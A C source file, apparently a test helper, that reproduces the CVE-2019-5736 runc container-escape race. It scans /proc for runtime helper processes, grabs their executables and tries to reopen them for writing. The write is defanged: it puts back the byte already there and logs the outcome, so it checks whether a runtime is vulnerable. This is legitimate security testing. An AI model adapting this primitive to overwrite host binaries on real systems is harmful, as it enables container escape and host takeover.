/*
 * A hostile container's root process (the CVE-2019-5736 attack), for test_escape.py.
 *
 * Scans /proc for every new process of its pid namespace, grabs /proc/PID/exe with
 * O_PATH while the process may still be a runtime helper, and keeps trying to reopen
 * each grabbed fd for writing through /proc/self/fd/N: once the helper has exec'd the
 * user's program, nothing executes its old file, and a reopen of a host binary would
 * succeed. It never changes a byte: on a successful open it writes back the byte it
 * read at offset 0 (a write that would land, harmless to the file), and reports it.
 *
 * Output, one line each: "seen PID TARGET" for a grabbed helper exe (TARGET its
 * readlink), "open DEV INO TARGET" for an open for writing that succeeded, and
 * "write OK|ERRNO TARGET" for the write that followed. Runs until killed.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define MAX 4096

static int fds[MAX];
static char targets[MAX][128];
static int nfds;
static char seen[1 << 22];

int main(void)
{
	char path[64], proc_fd[64];
	setvbuf(stdout, NULL, _IOLBF, 0);
	for (;;) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		if (!d)
			return 1;
		while ((e = readdir(d))) {
			long pid = strtol(e->d_name, NULL, 10);
			int fd;
			ssize_t n;

			if (pid <= 1 || pid >= (long)sizeof(seen) || seen[pid] || pid == getpid())
				continue;
			snprintf(path, sizeof(path), "/proc/%ld/exe", pid);
			fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue; /* not allowed yet (full capabilities), or gone: look again */
			seen[pid] = 1;
			if (nfds >= MAX) {
				close(fd);
				continue;
			}
			n = readlink(path, targets[nfds], sizeof(targets[nfds]) - 1);
			if (n < 0)
				n = 0;
			targets[nfds][n] = '\0';
			if (strstr(targets[nfds], "exe_grabber") || strstr(targets[nfds], "busybox")) {
				close(fd); /* the container's own programs */
				continue;
			}
			printf("seen %ld %s\n", pid, targets[nfds]);
			fds[nfds++] = fd;
		}
		closedir(d);
		for (int i = 0; i < nfds; i++) {
			struct stat st;
			char byte;
			int w;

			if (fds[i] < 0)
				continue;
			snprintf(proc_fd, sizeof(proc_fd), "/proc/self/fd/%d", fds[i]);
			w = open(proc_fd, O_WRONLY | O_CLOEXEC);
			if (w < 0) {
				if (errno != ETXTBSY) { /* refused for good (EROFS, EPERM, EACCES) */
					close(fds[i]);
					fds[i] = -1;
				}
				continue;
			}
			fstat(w, &st);
			printf("open %lu %lu %s\n", (unsigned long)st.st_dev, (unsigned long)st.st_ino, targets[i]);
			{
				int r = open(proc_fd, O_RDONLY | O_CLOEXEC);
				if (r >= 0 && pread(r, &byte, 1, 0) == 1 && pwrite(w, &byte, 1, 0) == 1)
					printf("write OK %s\n", targets[i]);
				else
					printf("write %s %s\n", strerror(errno), targets[i]);
				if (r >= 0)
					close(r);
			}
			close(w);
			close(fds[i]);
			fds[i] = -1;
		}
	}
}
